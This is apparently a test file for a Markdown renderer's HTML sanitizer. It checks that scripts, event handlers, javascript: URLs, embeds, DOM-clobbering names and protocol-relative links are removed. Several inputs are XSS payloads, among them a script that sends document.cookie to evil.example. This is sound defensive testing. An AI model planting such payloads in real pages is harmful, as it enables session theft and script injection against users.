import { select, selectAll } from 'hast-util-select'
import { toString } from 'hast-util-to-string'
import { describe, expect, it } from 'vitest'
import { renderMarkdown } from '../../helpers/render-markdown.ts'

describe('sanitizeSchema', function () {
  it('should remove a script element and its text', function () {
    const { hast } = renderMarkdown('Before.\n\n<script>fetch("https://evil.example/" + document.cookie)</script>\n\nAfter.\n')
    expect(selectAll('script', hast)).toEqual([])
    expect(selectAll('p', hast).map((node) => toString(node))).toEqual(['Before.', 'After.'])
    expect(toString(hast)).not.toContain('document.cookie')
  })

  it('should remove event handler attributes', function () {
    const { hast } = renderMarkdown('<img src="flow.png" alt="Flow" onerror="alert(1)">\n\n<div onclick="alert(2)">Box</div>\n')
    expect(select('img', hast)!.properties).toEqual({ src: './flow.png', alt: 'Flow' })
    expect(select('div', hast)!.properties).toEqual({})
  })

  it('should remove `javascript:` and `data:` URLs from raw and Markdown links', function () {
    const { hast } = renderMarkdown(
      '<a href="javascript:alert(1)">raw</a> [md](javascript:alert(1)) <a href="JaVaScRiPt:alert(1)">mixed</a> <a href="data:text/html,hi">data</a>\n',
    )
    const links = selectAll('a', hast)
    expect(links.map((node) => [toString(node), node.properties])).toEqual([
      ['raw', {}],
      ['md', {}],
      ['mixed', {}],
      ['data', {}],
    ])
  })

  it('should remove iframes, objects and embeds with their URLs', function () {
    const { hast } = renderMarkdown(
      '<iframe src="https://evil.example/frame"></iframe>\n\n<object data="https://evil.example/x.swf"></object>\n\n<embed src="https://evil.example/y.swf">\n\nText.\n',
    )
    expect(selectAll('iframe, object, embed', hast)).toEqual([])
    expect(selectAll('[src], [data]', hast)).toEqual([])
    expect(toString(hast).trim()).toBe('Text.')
  })

  it('should remove a script inside inline SVG', function () {
    const { hast } = renderMarkdown('<svg><script>alert(1)</script></svg>\n')
    expect(selectAll('svg, script', hast)).toEqual([])
    expect(toString(hast)).not.toContain('alert')
  })

  it('should keep kbd, sup and br', function () {
    const { hast } = renderMarkdown('Press <kbd>Ctrl</kbd>+<kbd>C</kbd>, then x<sup>2</sup><br>next line.\n')
    expect(selectAll('p > kbd', hast).map((node) => toString(node))).toEqual(['Ctrl', 'C'])
    expect(toString(select('p > sup', hast)!)).toBe('2')
    expect(select('p > br', hast)).not.toBeUndefined()
  })

  it('should keep GFM and raw HTML tables', function () {
    const { hast } = renderMarkdown('| Tier | Owner |\n|---|---|\n| 1 | SOC |\n\n<table><tr><td>raw</td></tr></table>\n')
    const tables = selectAll('table', hast)
    expect(tables).toHaveLength(2)
    expect(selectAll('th', tables[0]!).map((node) => toString(node))).toEqual(['Tier', 'Owner'])
    expect(selectAll('td', tables[0]!).map((node) => toString(node))).toEqual(['1', 'SOC'])
    expect(toString(select('td', tables[1]!)!)).toBe('raw')
  })

  it('should keep alert classes but drop other classes on a div', function () {
    const { hast } = renderMarkdown('<div class="alert alert-note evil" role="note">Raw note</div>\n')
    expect(select('div', hast)!.properties).toEqual({ className: ['alert', 'alert-note'], role: 'note' })
  })

  it('should keep language classes on code but nothing else', function () {
    const { hast } = renderMarkdown('<code class="language-kusto evil" onclick="x()">SecurityEvent</code>\n')
    expect(select('code', hast)!.properties).toEqual({ className: ['language-kusto'] })
  })

  describe('DOM clobbering', function () {
    it('should drop `name` from images, inputs and every other element', function () {
      const { hast } = renderMarkdown(
        '<img src="a.png" alt="A" name="querySelectorAll"> <img src="b.png" alt="B" name="cookie" id="getElementById">\n\n<div name="body">Box</div>\n\n- [ ] <input type="checkbox" name="location"> task\n',
      )
      expect(selectAll('[name]', hast)).toEqual([])
      expect(selectAll('img', hast).map((node) => node.properties)).toEqual([
        { src: './a.png', alt: 'A' },
        { src: './b.png', alt: 'B', id: 'getElementById' },
      ])
      expect(toString(select('div', hast)!)).toBe('Box')
    })

    it('should remove a form with its name and action but keep its text', function () {
      const { hast } = renderMarkdown('<form name="body" action="https://evil.example/"><input name="elements">Send</form>\n')
      expect(selectAll('form, [name], [action]', hast)).toEqual([])
      expect(toString(hast)).toContain('Send')
    })

    it('should keep a DocFX anchor as an id, also on a link', function () {
      const { hast } = renderMarkdown('<a name="before-you-start"></a> and <a href="https://example.org/" name="also-here">link</a>\n')
      expect(selectAll('a', hast).map((node) => node.properties)).toEqual([{ id: 'before-you-start' }, { href: 'https://example.org/', id: 'also-here' }])
    })
  })

  // Found by tests/fuzz/pipeline.fuzz.test.ts (seed 20261129), shrunk. The URL
  // policy (only `./`, `../`, `/`-but-not-`//`, `#`, `?` relative URLs) is
  // enforced on the urlpolicy branch (issue 10, item 4).
  // TODO(lead): change `it.fails` to `it` after merging that branch.
  describe('protocol-relative links (pending the URL policy, item 4)', function () {
    it('should not write a Markdown link to `//host`', function () {
      const { hast } = renderMarkdown('[r](//evil.example/)\n')
      expect(selectAll('a[href]', hast).map((node) => node.properties.href)).toEqual([])
    })

    it('should not write `/\\host`, which browsers read as `//host`', function () {
      const { hast } = renderMarkdown('<a href="/\\evil.example">x</a>\n')
      expect(selectAll('a[href]', hast).map((node) => node.properties.href)).toEqual([])
    })
  })
})
